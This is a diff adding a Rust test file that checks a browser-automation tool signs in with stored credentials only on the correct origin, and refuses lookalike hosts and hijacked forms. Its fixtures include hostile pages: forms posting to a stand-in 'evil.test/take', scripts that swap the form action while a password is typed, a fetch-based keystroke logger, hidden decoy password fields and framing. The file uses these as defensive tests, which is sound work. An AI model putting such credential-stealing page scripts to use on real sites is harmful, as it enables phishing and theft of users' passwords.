@@ -1,0 +1,469 @@
+//! Signing in: origins, decoys, outcomes (R6, R19–R25, cases 081 and 082). The server says where a
+//! value went; nothing else is believed.
+
+use super::lab::{Lab, canary};
+use super::stage::{LOGIN, Stage};
+
+const USER: &str = "ada.lovelace@example.test";
+
+/// Names this stage is reached under; the credential belongs to `http://shop.test` alone.
+const HOSTS: &[&str] = &[
+    "shop.test",
+    "login.shop.test",
+    "test-shop.test",
+    "evil.test",
+    "xn--shp-yzc.test",
+    "shop.test:8080",
+    "shop.test.evil.test",
+];
+
+fn credential(lab: &mut Lab, password: &str) {
+    lab.credential("shop", "http://shop.test", USER, password);
+}
+
+/// `start` at an address, then `login: shop`.
+fn sign_in(lab: &Lab, id: &str, start: &str, more: &str, expect: &str) {
+    lab.scenario(
+        id,
+        &format!(
+            "start: {start}\ncredentials: [shop]\n{more}steps:\n  - login: shop\n    timeout: 2s\nexpect: [ {expect} ]\n"
+        ),
+    );
+}
+
+/// Everything any host received, to look for values in.
+fn received_anywhere(stage: &Stage, value: &str) -> Vec<String> {
+    let encoded: String = url::form_urlencoded::byte_serialize(value.as_bytes()).collect();
+    stage
+        .received()
+        .iter()
+        .filter(|r| {
+            let all = format!("{} {}", r.path, r.body);
+            all.contains(value) || all.contains(&encoded)
+        })
+        .map(|r| format!("{} {}{}", r.method, r.host, r.path))
+        .collect()
+}
+
+#[test]
+fn r19_r22_a_value_goes_to_its_own_origin_and_to_no_other() {
+    let password = canary(16);
+    let stage = Stage::open(&password);
+    stage.page("*", "/login", &format!("<title>Sign in</title>{LOGIN}"));
+    stage.page("*", "/home", "<title>Home</title><h1>Orders</h1>");
+    let form = |action: &str| {
+        format!(
+            "<title>Sign in</title><form method=post {action}><label>User <input name=username></label>\
+             <label>Password <input name=password type=password></label><button>Sign in</button></form>"
+        )
+    };
+    stage.page("*", "/to-evil", &form("action=http://evil.test/take"));
+    stage.page(
+        "*",
+        "/to-sibling",
+        &form("action=http://login.shop.test/session"),
+    );
+    stage.page("*", "/to-https", &form("action=https://shop.test/session"));
+    stage.page(
+        "*",
+        "/to-port",
+        &form("action=http://shop.test:8080/session"),
+    );
+    stage.page("*", "/to-script", &form("action=\"javascript:void 0\""));
+    stage.page(
+        "*",
+        "/button-to-evil",
+        &form("action=/session").replace("<button>", "<button formaction=http://evil.test/take>"),
+    );
+    // Fields can't hide the form's own action from us.
+    stage.page(
+        "*",
+        "/clobbered",
+        &form("action=http://evil.test/take")
+            .replace("<button>", "<input name=action value=/session><button>"),
+    );
+    stage.page(
+        "*",
+        "/framed",
+        "<title>Framed</title><iframe title=box width=600 height=400 src=http://shop.test/login></iframe>",
+    );
+    stage.page(
+        "*",
+        "/frames-evil",
+        "<title>Frames</title><iframe title=box width=600 height=400 src=http://evil.test/login></iframe>",
+    );
+    let mut lab = Lab::on(&stage, HOSTS, true);
+    credential(&mut lab, &password);
+    let home = "{ see: Orders }";
+    sign_in(&lab, "right", "http://shop.test/login", "", home);
+    sign_in(&lab, "upper-case", "http://SHOP.TEST/login", "", home);
+    sign_in(&lab, "default-port", "http://shop.test:80/login", "", home);
+    for (id, start) in [
+        ("subdomain", "http://login.shop.test/login"),
+        ("sibling", "http://test-shop.test/login"),
+        ("other-port", "http://shop.test:8080/login"),
+        ("punycode", "http://xn--shp-yzc.test/login"),
+        ("prefix", "http://shop.test.evil.test/login"),
+        ("action-evil", "http://shop.test/to-evil"),
+        ("action-sibling", "http://shop.test/to-sibling"),
+        ("action-https", "http://shop.test/to-https"),
+        ("action-port", "http://shop.test/to-port"),
+        ("button-action", "http://shop.test/button-to-evil"),
+        ("clobbered", "http://shop.test/clobbered"),
+        ("framed-by-evil", "http://evil.test/framed"),
+        ("frames-evil", "http://shop.test/frames-evil"),
+        ("action-script", "http://shop.test/to-script"),
+    ] {
+        sign_in(
+            &lab,
+            id,
+            start,
+            "hosts: [evil.test, login.shop.test]\n",
+            home,
+        );
+    }
+    // `fill` with `credential:` is held to the same.
+    for (id, start) in [
+        ("fill-right", "http://shop.test/login"),
+        ("fill-evil", "http://evil.test/login"),
+        ("fill-action", "http://shop.test/to-evil"),
+    ] {
+        lab.scenario(
+            id,
+            &format!(
+                "start: {start}\ncredentials: [shop]\nhosts: [evil.test]\nsteps:\n  - {{ fill: Password, credential: shop.password }}\nexpect: [ {{ title: Sign in }} ]\n"
+            ),
+        );
+    }
+    let run = lab.run(&["--fresh", "--jobs", "2"]);
+    let wrong = "refused/wrong_origin";
+    run.check(&[
+        ("right", "passed/completed"),
+        ("upper-case", "passed/completed"),
+        ("default-port", "passed/completed"),
+        ("subdomain", wrong),
+        ("sibling", wrong),
+        ("other-port", wrong),
+        ("punycode", wrong),
+        ("prefix", wrong),
+        ("action-evil", wrong),
+        ("action-sibling", wrong),
+        ("action-https", wrong),
+        ("action-port", wrong),
+        ("button-action", wrong),
+        ("clobbered", wrong),
+        ("framed-by-evil", "failed/no_form"),
+        ("frames-evil", "failed/no_form"),
+        ("action-script", wrong),
+        ("fill-right", "passed/completed"),
+        ("fill-evil", wrong),
+        ("fill-action", wrong),
+    ]);
+    let places = received_anywhere(&stage, &password);
+    assert!(
+        places.iter().all(|p| p == "POST shop.test/session") && places.len() == 3,
+        "{places:?}"
+    );
+    let said = run.failure("sibling");
+    assert!(
+        said.contains("http://shop.test") && said.contains("test-shop.test"),
+        "both origins are named: {said}"
+    );
+}
+
+/// R20, R21, R23, R25 and case 081: pages that work against the one who types.
+#[test]
+fn r20_r21_r23_case_081_pages_that_turn_while_a_secret_is_typed() {
+    let password = canary(16);
+    let stage = Stage::open(&password);
+    stage.page("*", "/home", "<title>Home</title><h1>Orders</h1>");
+    let keys = "<script>for (const e of document.querySelectorAll('input'))\
+                e.addEventListener('input', () => fetch('/seen?' + e.id + '=' + encodeURIComponent(e.value)));</script>";
+    let page = |path: &str, inside: &str, script: &str| {
+        stage.page(
+            "shop.test",
+            path,
+            &format!(
+                "<title>Sign in</title><form id=f method=post action=/session>{inside}\
+                 <label>User <input id=u name=username></label>\
+                 <label>Password <input id=p name=password type=password></label>\
+                 <button id=b>Sign in</button></form><script>{script}</script>"
+            ),
+        );
+    };
+    page(
+        "/swaps-action",
+        "",
+        "p.oninput = () => f.setAttribute('action', 'http://evil.test/take')",
+    );
+    page(
+        "/swaps-button",
+        "",
+        "p.oninput = () => b.setAttribute('formaction', 'http://evil.test/take')",
+    );
+    page(
+        "/swaps-method",
+        "",
+        "p.oninput = () => f.setAttribute('method', 'get')",
+    );
+    page(
+        "/navigates",
+        "",
+        "p.onfocus = () => location.href = 'http://evil.test/login'",
+    );
+    page(
+        "/navigates-late",
+        "",
+        "p.oninput = () => { if (p.value.length > 4) location.href = 'http://evil.test/login' }",
+    );
+    page(
+        "/jumps",
+        "<label>Search <input id=q></label>",
+        "p.oninput = () => { if (p.value.length === 3) q.focus() }; q.oninput = () => fetch('/searched?q=' + q.value)",
+    );
+    // Decoys: none of them may ever get a key of the password.
+    page(
+        "/decoys",
+        "<input type=password id=d1 name=d1 style=display:none>\
+         <input type=password id=d2 name=d2 style=\"position:absolute;left:-9999px\">\
+         <input type=password id=d3 name=d3 style=opacity:0>\
+         <input type=password id=d4 name=d4 style=\"width:2px;height:2px;padding:0;border:0\">\
+         <input type=password id=d5 name=d5 disabled><input type=password id=d6 name=d6 readonly>",
+        "",
+    );
+    stage.page(
+        "shop.test",
+        "/two-forms",
+        &format!("<title>Sign in</title>{LOGIN}<form><label>Other <input type=password id=x></label></form>"),
+    );
+    stage.page(
+        "shop.test",
+        "/registration",
+        "<title>Join</title><form method=post action=/session><label>User <input name=username></label>\
+         <label>Password <input type=password name=password autocomplete=new-password></label>\
+         <label>Again <input type=password name=again autocomplete=new-password></label><button>Join</button></form>",
+    );
+    let get = |method: &str| {
+        format!(
+            "<title>Sign in</title><form {method} action=/search><label>User <input id=u name=username></label>\
+             <label>Password <input id=p name=password type=password></label><button>Sign in</button></form>{keys}"
+        )
+    };
+    stage.page("shop.test", "/get", &get("method=get"));
+    stage.page("shop.test", "/no-method", &get(""));
+    stage.page("shop.test", "/get-case", &get("method=GeT"));
+    stage.page(
+        "evil.test",
+        "/login",
+        &format!("<title>Evil</title>{LOGIN}{keys}"),
+    );
+    let mut lab = Lab::on(&stage, HOSTS, true);
+    credential(&mut lab, &password);
+    let evil = "hosts: [evil.test]\n";
+    for id in [
+        "swaps-action",
+        "swaps-button",
+        "swaps-method",
+        "navigates",
+        "navigates-late",
+        "jumps",
+        "decoys",
+        "two-forms",
+        "registration",
+        "get",
+        "get-case",
+        "no-method",
+    ] {
+        sign_in(
+            &lab,
+            id,
+            &format!("http://shop.test/{id}"),
+            evil,
+            "{ see: Orders }",
+        );
+    }
+    let run = lab.run(&["--fresh", "--jobs", "2"]);
+    run.check(&[
+        ("swaps-action", "refused/wrong_origin"),
+        ("swaps-button", "refused/wrong_origin"),
+        ("swaps-method", "failed/unsafe_form"),
+        ("navigates", "refused/wrong_origin"),
+        ("navigates-late", "refused/wrong_origin"),
+        ("jumps", "failed/focus_moved"),
+        ("decoys", "passed/completed"),
+        ("two-forms", "failed/unsafe_form"),
+        ("registration", "failed/unsafe_form"),
+        ("get", "failed/unsafe_form"),
+        ("get-case", "failed/unsafe_form"),
+        ("no-method", "refused/secret_in_url"),
+    ]);
+    let received = stage.received();
+    let whole = received_anywhere(&stage, &password);
+    assert_eq!(
+        whole,
+        ["POST shop.test/session"],
+        "only the page with decoys was signed in to"
+    );
+    // Nothing of the password reaches another field or another page.
+    for request in &received {
+        assert!(
+            request.host != "evil.test" || !request.path.contains("p="),
+            "nothing typed at evil.test: {}",
+            request.path
+        );
+        if let Some(q) = request.path.strip_prefix("/searched?q=") {
+            assert_eq!(q, "", "letters of the password in a search");
+        }
+    }
+    // The decoys' form was sent with all of them empty.
+    let sent = received
+        .iter()
+        .find(|r| r.path == "/session")
+        .expect("a sign-in");
+    for decoy in ["d1=", "d2=", "d3=", "d4=", "d6="] {
+        let value = sent.body.split('&').find_map(|f| f.strip_prefix(decoy));
+        assert_eq!(value, Some(""), "{decoy} of {}", sent.body);
+    }
+}
+
+/// Outcomes, each by name, and a cool-down that outlives the run.
+#[test]
+fn r6_r65_logins_end_with_a_named_outcome() {
+    let password = canary(16);
+    let stage = Stage::open(&password);
+    stage.page("*", "/login", &format!("<title>Sign in</title>{LOGIN}"));
+    stage.page("*", "/home", "<title>Home</title><h1>Orders</h1>");
+    stage.page(
+        "*",
+        "/login-user",
+        "<title>Sign in</title><form method=post action=/session/user><label>User <input name=username autocomplete=username></label><button>Next</button></form>",
+    );
+    stage.page(
+        "*",
+        "/login-password",
+        "<title>Sign in</title><form method=post action=/session><input name=username value=x hidden autocomplete=username>\
+         <label>Password <input name=password type=password></label><button>Sign in</button></form>",
+    );
+    stage.page(
+        "*",
+        "/login-then-code",
+        &LOGIN.replace("action=/session", "action=/session/to-code"),
+    );
+    stage.page(
+        "*",
+        "/login-code",
+        "<title>Code</title><form method=post action=/session/code><label>Code <input name=code inputmode=numeric maxlength=6 autocomplete=one-time-code></label><button>Verify</button></form>",
+    );
+    stage.page(
+        "*",
+        "/captcha",
+        "<title>Sign in</title><form id=f method=post action=/session><label>User <input name=username></label>\
+         <label>Password <input id=p name=password type=password></label><button>Sign in</button></form>\
+         <script>f.onsubmit = e => { e.preventDefault(); p.value = ''; f.insertAdjacentHTML('afterend', '<iframe title=\"CAPTCHA challenge\" srcdoc=x></iframe>') }</script>",
+    );
+    let mut lab = Lab::on(&stage, HOSTS, true);
+    credential(&mut lab, &password);
+    lab.set("SHOP_TOTP", "JBSWY3DPEHPK3PXP");
+    lab.credential("nocode", "http://shop.test", USER, &password);
+    lab.credential("stale", "http://shop.test", USER, "not-the-password-9");
+    let login = |id: &str, start: &str, name: &str, more: &str| {
+        lab.scenario(
+            id,
+            &format!(
+                "start: http://shop.test/{start}\ncredentials: [{name}]\n{more}steps:\n  - login: {name}\n    timeout: 2s\nexpect: [ {{ see: Orders }} ]\n"
+            ),
+        );
+    };
+    login("one-page", "login", "shop", "");
+    login("two-pages", "login-user", "shop", "");
+    login("with-code", "login-then-code", "shop", "");
+    login("no-seed", "login-then-code", "nocode", "");
+    login("captcha", "captcha", "shop", "");
+    login("no-form", "home", "shop", "");
+    lab.scenario(
+        "already",
+        "start: http://shop.test/home\ncredentials: [shop]\nsteps:\n  - login: shop\n    expect: { see: Orders }\nexpect: [ { see: Orders } ]\n",
+    );
+    let run = lab.run(&["--fresh", "--jobs", "2"]);
+    run.check(&[
+        ("one-page", "passed/completed"),
+        ("two-pages", "passed/completed"),
+        ("with-code", "passed/completed"),
+        ("no-seed", "failed/human_needed"),
+        ("captcha", "failed/captcha"),
+        ("no-form", "failed/no_form"),
+        ("already", "passed/completed"),
+    ]);
+    let by = |id: &str| {
+        let end = run.of(id, "scenario_finished").last().cloned();
+        end.and_then(|e| e["signed_in_by"].as_str().map(str::to_owned))
+    };
+    assert_eq!(by("one-page").as_deref(), Some("credential"));
+    assert_eq!(by("already").as_deref(), Some("already signed in"));
+
+    // Expected rejections don't count; others do, and the fourth is not tried.
+    let rejected = |id: &str, ends: &str| {
+        lab.scenario(
+            id,
+            &format!(
+                "start: http://shop.test/login\ncredentials: [stale]\n{ends}steps:\n  - login: stale\nexpect: [ {{ see: Orders }} ]\n"
+            ),
+        );
+    };
+    rejected(
+        "expected",
+        "ends: { status: failed, reason: login_rejected, step: 1 }\n",
+    );
+    rejected("rejected", "");
+    let tries = || {
+        stage
+            .writes()
+            .iter()
+            .filter(|w| w.ends_with("/session"))
+            .count()
+    };
+    let before = tries();
+    let run = lab.run(&["expected", "--fresh", "--repeat", "4"]);
+    assert_eq!((run.code, tries() - before), (0, 4), "{}", run.stdout);
+    let run = lab.run(&["rejected", "--fresh", "--repeat", "3"]);
+    run.check(&[("rejected", "failed/login_rejected")]);
+    assert_eq!(tries() - before, 7);
+    let run = lab.run(&["rejected", "--fresh"]);
+    run.check(&[("rejected", "failed/login_cooling_down")]);
+    assert_eq!(tries() - before, 7, "the fourth was not tried");
+    let reset = lab
+        .command()
+        .args(["credentials", "test", "stale", "--reset"])
+        .output()
+        .expect("the program");
+    assert!(
+        reset.status.success(),
+        "{}",
+        String::from_utf8_lossy(&reset.stderr)
+    );
+    let run = lab.run(&["rejected", "--fresh"]);
+    run.check(&[("rejected", "failed/login_rejected")]);
+}
+
+/// R6, case 072: what is missing or empty is found before any browser.
+#[test]
+fn r6_case_072_a_missing_or_empty_credential_stops_before_any_browser() {
+    let stage = Stage::open("");
+    let mut lab = Lab::on(&stage, HOSTS, true);
+    sign_in(
+        &lab,
+        "missing",
+        "http://shop.test/login",
+        "",
+        "{ see: Orders }",
+    );
+    let run = lab.run(&["--fresh"]);
+    assert_eq!(run.code, 2, "{}", run.stderr);
+    assert!(!run.browser_seen && stage.received().is_empty());
+    assert!(run.stderr.contains("shop"), "{}", run.stderr);
+    credential(&mut lab, "");
+    let run = lab.run(&["--fresh"]);
+    assert_eq!(run.code, 2, "{}", run.stderr);
+    assert!(!run.browser_seen && stage.received().is_empty());
+    assert!(run.stderr.contains("shop"), "{}", run.stderr);
+}
